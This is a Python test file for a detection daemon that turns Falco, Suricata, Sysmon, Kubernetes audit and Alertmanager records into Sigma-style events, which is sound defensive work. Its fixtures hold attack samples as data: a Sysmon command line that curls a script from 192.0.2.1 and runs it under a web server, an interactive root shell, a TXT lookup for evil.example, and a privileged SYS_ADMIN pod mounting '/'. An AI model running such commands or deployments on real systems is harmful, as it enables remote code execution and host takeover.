"""Records of other tools are events in Sigma's names."""

import copy
import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from daemon.events.jsonl import Parsed, Shaping, parse_json_records
from daemon.events.presets import recognise
from daemon.events.stamps import Stamps
from daemon.model import Logsource
from tests.doubles.tool_records import (
    FALCO,
    KUBERNETES,
    SURICATA,
    SYSMON_XML,
    alertmanager,
    an_alertmanager_alert,
)

AT = 1_795_253_449.264147
STAMPS = Stamps(lambda: AT, None)


def parse(record: Any, preset: str = "auto") -> list[Parsed]:
    return parse_json_records(json.dumps(record).encode(), STAMPS, Shaping(preset))


@pytest.mark.parametrize(
    ("record", "preset"),
    [
        (FALCO, "falco"), (SURICATA, "suricata"), (KUBERNETES, "kubernetes_audit"), (alertmanager(), "alertmanager"),
        ({"MESSAGE": SYSMON_XML}, "sysmon"), ({"a": 1}, ""), ({"rule": "x", "priority": "Notice", "output": "y"}, ""),
        ({"event_type": "login", "timestamp": 5}, ""), ({"kind": "Event", "apiVersion": "v1"}, ""), ({"alerts": []}, ""),
    ],
)  # fmt: skip
def test_records_are_known_by_their_shape(record: dict[str, Any], preset: str) -> None:
    assert recognise(record) == preset


def test_falco() -> None:
    alert, process = parse(FALCO)
    assert alert.logsource == Logsource("falco", service="alert")
    assert alert.at == pytest.approx(AT)
    assert alert.host == "node-7"
    expected = {
        "rule": "Terminal shell in container", "priority": "Notice", "severity": "notice", "CommandLine": "bash -i",
        "Image": "/bin/bash", "ParentImage": "runc", "User": "root", "ProcessId": 4242, "container.id": "4e5cd0dbd4ec",
        "proc.tty": 34816,
    }  # fmt: skip
    assert alert.fields.items() >= expected.items()
    assert process.logsource == Logsource(category="process_creation")
    assert process.fields["CommandLine"] == "bash -i"
    assert alert.key == process.key != ""


@pytest.mark.parametrize(
    ("fields", "category"),
    [
        ({"evt.type": "connect", "fd.rip": "203.0.113.9", "fd.rport": 443, "fd.name": "192.0.2.1:5->203.0.113.9:443"}, "network_connection"),
        ({"evt.type": "openat", "evt.is_open_write": True, "fd.name": "/etc/passwd"}, "file_event"),
        ({"evt.type": "openat", "evt.is_open_write": False, "fd.name": "/etc/passwd"}, None),
        ({"evt.type": "execve", "proc.name": "bash"}, None),
        ({}, None),
    ],
)  # fmt: skip
def test_what_falco_saw_happen_is_an_event_too(fields: dict[str, Any], category: str | None) -> None:
    found = parse({**FALCO, "output_fields": fields})
    assert [one.logsource.category for one in found[1:]] == ([category] if category else [])


def test_the_same_falco_alert_has_the_same_key_and_another_another() -> None:
    again, later = copy.deepcopy(FALCO), {**FALCO, "time": "2026-11-21T09:30:49.264147780Z"}
    assert parse(FALCO)[0].key == parse(again)[0].key != parse(later)[0].key
    assert parse({**FALCO, "uuid": "6f0f"})[0].key == "6f0f"
    assert parse({**FALCO, "time": None, "output_fields": {}})[0].key == ""


@pytest.mark.parametrize(
    ("left_out", "fields"),
    [(["output"], {"CommandLine": "bash -i"}), (["tags"], {"CommandLine": "bash -i"}), (["output_fields"], {"severity": "notice"}),
     (["time"], {"CommandLine": "bash -i"}), (["output", "source", "tags", "hostname"], {"CommandLine": "bash -i"})],
)  # fmt: skip
def test_falco_may_be_told_to_leave_out_some_of_it(left_out: list[str], fields: dict[str, Any]) -> None:
    """As `json_include_output_property: false` does: it is an alert all the same, and no JSON of anybody."""
    alert, *_ = parse({name: value for name, value in FALCO.items() if name not in left_out})
    assert alert.logsource == Logsource("falco", service="alert")
    assert alert.fields.items() >= {"rule": "Terminal shell in container", **fields}.items()
    assert alert.key


@pytest.mark.parametrize(
    "other",
    [{"rule": "x", "priority": "high", "output": "y", "time": 5, "source": "z"}, {"rule": "x", "priority": "Notice", "time": 5},
     {"rule": "x", "priority": "Notice", "output_fields": {}}, {"rule": "x", "priority": "Notice", "output_fields": "y", "time": 5}],
)  # fmt: skip
def test_what_only_looks_a_little_like_falco_is_not(other: dict[str, Any]) -> None:
    assert recognise(other) == ""


def test_suricata() -> None:
    (alert,) = parse(SURICATA)
    assert alert.logsource == Logsource("suricata", service="alert")
    assert alert.at == pytest.approx(AT)
    expected = {
        "alert.signature": "ET SCAN Possible Nmap User-Agent Observed", "alert.severity": 1, "SourceIp": "203.0.113.47",
        "DestinationIp": "192.0.2.10", "DestinationPort": 80, "src_ip": "203.0.113.47", "DestinationHostname": "www.example.org",
    }  # fmt: skip
    assert alert.fields.items() >= expected.items()


def test_what_suricata_saw_of_web_and_names_is_in_the_words_of_sigma() -> None:
    base = {key: value for key, value in SURICATA.items() if key != "alert"}
    _, proxy = parse({**base, "event_type": "http"})
    assert proxy.logsource == Logsource("suricata", "proxy")
    assert (proxy.fields["c-useragent"], proxy.fields["cs-host"], proxy.fields["sc-status"]) == (
        "Nmap",
        "www.example.org",
        200,
    )
    _, query = parse({**base, "event_type": "dns", "dns": {"type": "query", "rrname": "evil.example", "rrtype": "TXT"}})
    assert (query.logsource.category, query.fields["query"], query.fields["record_type"]) == (
        "dns",
        "evil.example",
        "TXT",
    )


@pytest.mark.parametrize(
    "record",
    [
        {"MESSAGE": SYSMON_XML, "SYSLOG_IDENTIFIER": "sysmon", "_EXE": "/opt/sysmon/sysmon", "_UID": "0", "_TRANSPORT": "syslog"},
        {"Message": SYSMON_XML, "host": "web-1"},
        {
            "Event": {
                "System": {"Provider": {"@Name": "Linux-Sysmon"}, "EventID": 1, "EventRecordID": 8751, "Computer": "web-1"},
                "EventData": {
                    "Data": [
                        {"@Name": "UtcTime", "#text": "2026-11-21 09:30:49.270"}, {"@Name": "Image", "#text": "/usr/bin/bash"},
                        {"@Name": "CommandLine", "#text": 'bash -c "curl http://192.0.2.1/a && sh a"'},
                        {"@Name": "User", "#text": "www-data"}, {"@Name": "ParentImage", "#text": "/usr/sbin/apache2"},
                        {"@Name": "RuleName", "#text": "-"}, {"@Name": "ProcessId", "#text": 9678},
                    ]
                },
            }
        },
        {
            "System": {"Channel": "Linux-Sysmon/Operational", "EventID": "1", "EventRecordID": "8751", "Computer": "web-1"},
            "EventData": {
                "UtcTime": "2026-11-21 09:30:49.270", "Image": "/usr/bin/bash", "User": "www-data", "ProcessId": "9678",
                "CommandLine": 'bash -c "curl http://192.0.2.1/a && sh a"', "ParentImage": "/usr/sbin/apache2", "RuleName": "-",
            },
        },
    ],
)  # fmt: skip
def test_sysmon_wherever_its_xml_is_and_as_json(record: dict[str, Any]) -> None:
    (process,) = parse(record)
    assert process.logsource == Logsource("linux", "process_creation")
    assert process.at == pytest.approx(1_795_253_449.270)
    assert process.host == "web-1"
    expected = {
        "Image": "/usr/bin/bash", "CommandLine": 'bash -c "curl http://192.0.2.1/a && sh a"', "User": "www-data",
        "ParentImage": "/usr/sbin/apache2", "ProcessId": "9678", "EventID": "1",
    }  # fmt: skip
    assert process.fields.items() >= expected.items()
    assert "RuleName" not in process.fields
    assert process.key == "web-1:8751:2026-11-21 09:30:49.270"


def test_logger_does_not_forge_sysmon() -> None:
    record = {
        "MESSAGE": SYSMON_XML,
        "SYSLOG_IDENTIFIER": "sysmon",
        "_EXE": "/usr/bin/logger",
        "_UID": "0",
        "_TRANSPORT": "syslog",
    }
    (event,) = parse(record)
    assert event.logsource.category == ""
    assert "CommandLine" not in event.fields


@pytest.mark.parametrize(
    ("number", "logsource"),
    [("3", Logsource("linux", "network_connection")), ("11", Logsource("linux", "file_event")),
     ("23", Logsource("linux", "file_delete")), ("99", Logsource("linux", "", "sysmon"))],
)  # fmt: skip
def test_events_of_sysmon_are_of_the_category_of_their_number(number: str, logsource: Logsource) -> None:
    (event,) = parse({"Message": SYSMON_XML.replace("<EventID>1<", f"<EventID>{number}<")})
    assert event.logsource == logsource


def test_kubernetes() -> None:
    (event,) = parse(KUBERNETES)
    assert event.logsource == Logsource("kubernetes", service="audit")
    assert event.at == pytest.approx(1_795_253_449.3)
    expected = {
        "verb": "create", "resource": "pods", "objectRef.resource": "pods", "namespace": "default", "hostPath": ("/",),
        "capabilities": ("SYS_ADMIN",), "privileged": "true", "user": "system:serviceaccount:ci:builder",
        "src_ip": "198.51.100.7", "responseStatus.code": 201,
    }  # fmt: skip
    assert event.fields.items() >= expected.items()
    assert event.key == f"{KUBERNETES['auditID']}:ResponseComplete"


def test_a_record_filled_up_hides_nothing() -> None:
    """Whoever makes a pod may give it three thousand annotations, and nest them as deep as he likes."""
    deep: Any = "x"
    for _ in range(60):
        deep = {"a": deep}
    filled = copy.deepcopy(KUBERNETES)
    filled["requestObject"]["metadata"] = {"annotations": {str(n): "x" for n in range(3000)}, "deep": deep}
    (event,) = parse(filled)
    assert (
        event.fields.items() >= {"verb": "create", "resource": "pods", "hostPath": ("/",), "privileged": "true"}.items()
    )
    assert event.fields["fields_cut"] == "true"
    assert len(event.fields) < 2100


def test_alertmanager() -> None:
    firing, resolved = parse(alertmanager(an_alertmanager_alert(), an_alertmanager_alert("resolved", team="db")))
    assert firing.logsource == Logsource("alertmanager", service="alert")
    assert (firing.host, firing.at) == ("192.0.2.10", None)  # now: it is told again and again
    expected = {"alertname": "DiskWillFill", "status": "firing", "severity": "critical", "instance": "192.0.2.10:9100"}
    assert firing.fields.items() >= {**expected, "annotations.summary": "The disk is full in four hours"}.items()
    assert "endsAt" not in firing.fields
    assert (resolved.fields["status"], resolved.fields["labels.team"]) == ("resolved", "db")
    assert firing.key != resolved.key


@pytest.mark.parametrize(
    ("labels", "host"),
    [({"instance": "[2001:db8::1]:9100"}, "2001:db8::1"), ({"instance": "db-1"}, "db-1"), ({"instance": ""}, ""),
     ({"instance": "192.0.2.1:9100", "nodename": "db-2"}, "db-2")],
)  # fmt: skip
def test_the_host_of_an_alert(labels: dict[str, str], host: str) -> None:
    (event,) = parse(alertmanager(an_alertmanager_alert(**labels)))
    assert event.host == host


@pytest.mark.parametrize("preset", ["falco", "suricata", "sysmon", "kubernetes_audit", "alertmanager"])
def test_what_has_not_the_shape_of_the_preset_is_not_understood(preset: str) -> None:
    assert parse({"a": 1}, preset) == []


def test_generic_makes_no_guess() -> None:
    (event,) = parse(FALCO, "generic")
    assert event.logsource == Logsource()
    assert event.fields["output_fields.proc.cmdline"] == "bash -i"


ANY = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda of: st.lists(of) | st.dictionaries(st.text(), of),
    max_leaves=6,
)


@given(st.sampled_from([FALCO, SURICATA, KUBERNETES, alertmanager(), {"Message": SYSMON_XML}]), st.data())
def test_no_value_in_any_place_raises(record: dict[str, Any], data: st.DataObject) -> None:
    """Whatever stands where the tools write something else, at the top or one level below."""
    broken = copy.deepcopy(record)
    key = data.draw(st.sampled_from(sorted(broken)))
    inner = broken[key]
    if isinstance(inner, dict) and inner and data.draw(st.booleans()):
        inner[data.draw(st.sampled_from(sorted(inner)))] = data.draw(ANY)
    else:
        broken[key] = data.draw(ANY)
    for preset in ("auto", "falco", "suricata", "sysmon", "kubernetes_audit", "alertmanager"):
        for event in parse(broken, preset):
            assert event.text is not None
